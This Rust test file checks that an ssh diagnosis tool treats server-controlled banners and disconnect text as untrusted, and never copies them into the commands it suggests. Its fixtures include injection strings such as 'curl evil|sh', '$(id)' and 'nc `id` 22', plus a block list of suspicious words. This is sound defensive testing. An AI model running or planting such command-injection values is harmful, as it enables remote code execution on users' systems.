//! Servers that imitate ssh's own words: in a banner, in a reason of several lines, in a list of what they offer.

use crate::cluster::cvm::{Address, Cvm};
use crate::diagnosis::tests::endpoint;
use crate::diagnosis::{connect_failure, connection_lost};
use crate::failure::{Failure, Kind};
use crate::options;

/// Words of ssh with a host, a file or a user of the server's choice.
const IMITATIONS: [&str; 12] = [
    "ssh: Could not resolve hostname x;curl evil|sh #: Name or service not known",
    "ssh: connect to host $(id) port 1: Connection refused",
    "ssh: connect to host x port 22;id: No route to host",
    "Host key for evil.example has changed and you have requested strict checking.",
    "Offending ECDSA key in /root/.ssh/authorized_keys:1",
    "No ED25519 host key is known for `id` and you have requested strict checking.",
    "Host key verification failed.",
    "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @",
    "Warning: Permanently added 'x' (ED25519) to the list of known hosts.",
    "$(id)@evil: Permission denied (publickey).",
    "channel 0: open failed: connect failed: Connection refused",
    "me@evil: Permission denied (publickey).",
];

/// Ends the test if a word of the server's is in a command.
#[track_caller]
fn assert_clean(failure: &Failure) {
    let hint = failure.hint.as_deref().unwrap_or_default();
    for command in hint.split('`').skip(1).step_by(2) {
        for word in ["evil", "$(id)", "`id", "authorized_keys", ";", "$"] {
            let ours = ["ssh-copy-id", "sudo systemctl status sshd; sudo ss -ltnp", "--user nutanix"];
            assert!(!command.contains(word) || ours.contains(&command), "{command}: {failure:?}");
        }
    }
}

#[test]
fn a_reason_of_several_lines_is_one_reason() {
    for imitation in IMITATIONS {
        let log = format!(
            "Received disconnect from 10.0.0.1 port 22:2: go away\n{imitation}\nDisconnected from 10.0.0.1 port 22\r\n"
        );
        let failure = connect_failure(log.as_bytes(), b"", &endpoint(None, None));
        assert_eq!(failure.kind, Kind::Dropped, "{imitation}");
        assert_eq!(failure.message, "sshd on 10.0.0.1 refused the login: go away");
        assert_clean(&failure);
        let failure = connection_lost(log.as_bytes(), b"", &endpoint(None, None));
        assert_eq!(failure.message, "sshd on 10.0.0.1 ended the connection: go away");
    }
}

#[test]
fn a_banner_explains_nothing() {
    for imitation in IMITATIONS {
        for (log, kind) in [
            ("nutanix@10.0.0.1: Permission denied (publickey).\r\n", Kind::Auth),
            ("Connection closed by 10.0.0.1 port 22\r\n", Kind::Dropped),
            (
                "Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures\r\nDisconnected from 10.0.0.1 port 22\r\n",
                Kind::Auth,
            ),
        ] {
            let plain = connect_failure(log.as_bytes(), b"", &endpoint(None, None));
            assert_eq!(plain.kind, kind);
            assert_eq!(
                connect_failure(log.as_bytes(), imitation.as_bytes(), &endpoint(None, None)),
                plain,
                "{imitation}"
            );
        }
    }
}

#[test]
fn an_offer_and_a_list_of_methods_are_the_servers() {
    for imitation in IMITATIONS {
        for log in [
            format!(
                "Unable to negotiate with 10.0.0.1 port 22: no matching cipher found. Their offer: a\n{imitation}\r\n"
            ),
            format!("nutanix@10.0.0.1: Permission denied (a\n{imitation}\r\n).\r\n"),
        ] {
            let failure = connect_failure(log.as_bytes(), b"", &endpoint(None, None));
            assert!(matches!(failure.kind, Kind::Ssh | Kind::Dropped), "{failure:?}");
            assert_clean(&failure);
        }
    }
}

#[test]
fn where_nothing_tells_them_apart_no_value_of_theirs_is_in_a_command() {
    for imitation in IMITATIONS {
        for jump in [None, Some("bastion")] {
            // As the words of an ssh to a jump host come: on stderr, with that host's banner.
            let end = "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n";
            assert_clean(&connect_failure(end.as_bytes(), imitation.as_bytes(), &endpoint(None, jump)));
            assert_clean(&connect_failure(b"", imitation.as_bytes(), &endpoint(None, jump)));
            assert_clean(&connect_failure(imitation.as_bytes(), b"", &endpoint(None, jump)));
        }
    }
}

#[test]
fn words_of_the_ssh_to_a_jump_host_count_where_ssh_only_saw_its_end() {
    let end = "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n";
    let words = b"ssh: Could not resolve hostname bastion: Name or service not known\r\n";
    let failure = connect_failure(end.as_bytes(), words, &endpoint(None, Some("bastion")));
    assert_eq!(
        failure.message,
        "cannot connect through the jump host bastion: the name bastion does not resolve"
    );
}

#[test]
fn a_banner_behind_jump_hosts_explains_nothing_either() {
    let proxy = endpoint(None, None).via(&[], Some("nc far 22"));
    for imitation in IMITATIONS.iter().chain(&["cvmtail: ssh asks: x", "stdio forwarding failed", ""]) {
        for endpoint in [&endpoint(None, Some("bastion")), &proxy, &endpoint(None, None)] {
            for (log, kind) in [
                // The greeting was over, so the CVM was reached.
                ("Connection closed by UNKNOWN port 65535\r\n", Kind::Dropped),
                ("Host key verification failed.\r\n", Kind::HostKeyUnknown),
                ("nutanix@far: Permission denied (publickey).\r\n", Kind::Auth),
                ("something nobody has seen\r\n", Kind::Dropped),
            ] {
                let plain = connect_failure(log.as_bytes(), b"", endpoint);
                assert_eq!(plain.kind, kind, "{plain:?}");
                assert_eq!(
                    connect_failure(log.as_bytes(), imitation.as_bytes(), endpoint),
                    plain,
                    "{imitation}"
                );
            }
        }
    }
}

#[test]
fn a_banner_of_a_jump_host_does_not_outdo_what_its_ssh_says() {
    let end = "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n";
    let pipe = "kex_exchange_identification: write: Broken pipe\r\nbanner exchange: Connection to UNKNOWN port 65535: Broken pipe\r\n";
    let disconnect = "Received disconnect from 10.9.9.9 port 22:2: go away\r\n";
    for imitation in IMITATIONS.iter().chain(&[disconnect, "cvmtail: ssh asks: x", ""]) {
        for (words, kind) in [
            ("me@bastion: Permission denied (publickey).\r\n", Kind::JumpRefused),
            ("cvmtail: ssh asks: me@bastion's password:\r\n", Kind::JumpRefused),
            ("ssh: connect to host bastion port 22: Connection refused\r\n", Kind::Jump),
            (
                "channel 0: open failed: connect failed: Connection refused\r\nstdio forwarding failed\r\n",
                Kind::Refused,
            ),
        ] {
            for log in [end, pipe] {
                let endpoint = endpoint(None, Some("bastion"));
                let plain = connect_failure(log.as_bytes(), words.as_bytes(), &endpoint);
                assert_eq!(plain.kind, kind, "{log}{plain:?}");
                let told =
                    connect_failure(log.as_bytes(), format!("{imitation}\r\n{words}").as_bytes(), &endpoint);
                assert_eq!(told, plain, "{imitation}");
            }
        }
        let reason = format!("{disconnect}{imitation}\r\nDisconnected from 10.9.9.9 port 22\r\n");
        let told = connect_failure(end.as_bytes(), reason.as_bytes(), &endpoint(None, Some("bastion")));
        assert_eq!(
            told.message,
            "cannot connect through the jump host bastion: sshd on bastion refused the login: go away"
        );
    }
}

#[test]
fn a_proxy_command_is_offered_as_it_stands_or_not_at_all() {
    let end = "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n";
    for (command, offered) in [
        ("ssh -W 'far one':22 near | cat", Some("`ssh -W 'far one':22 near | cat`")),
        ("nc `id` 22", None),
        ("nc far\u{202e} 22", None),
        ("nc far\x07 22", None),
    ] {
        let endpoint = endpoint(None, None).via(&[], Some(command));
        let failure = connect_failure(end.as_bytes(), b"nc: no way\n", &endpoint);
        let hint = failure.hint.expect("a hint");
        let wanted = offered.unwrap_or("the ProxyCommand of your ssh config");
        assert_eq!(&*hint, format!("see what {wanted} says"));
    }
}

#[test]
fn trouble_with_the_users_own_key_is_told_from_a_banner() {
    let address = Address::Ssh { host: "h".into(), port: None, user: Some("nutanix".into()), jump: None };
    let cvm = Cvm { name: "a".into(), address, source: "-c".into() };
    let ssh = options::SshOptions { identities: vec!["/nokey".into()], ..options::SshOptions::default() };
    let endpoint = super::Endpoint::new(&cvm, &ssh);
    let log = "nutanix@h: Permission denied (publickey).\r\n";
    let warning = "Warning: Identity file /nokey not accessible: No such file or directory.\n";
    let failure = connect_failure(log.as_bytes(), warning.as_bytes(), &endpoint);
    assert!(failure.message.contains("; your ssh says: Warning: Identity file /nokey"), "{failure:?}");
    let plain = connect_failure(log.as_bytes(), b"", &endpoint);
    for banner in
        [format!("hello\n{warning}"), warning.replace("nokey", "evil"), "Load key evil\n".to_owned()]
    {
        assert_eq!(connect_failure(log.as_bytes(), banner.as_bytes(), &endpoint), plain, "{banner}");
    }
}
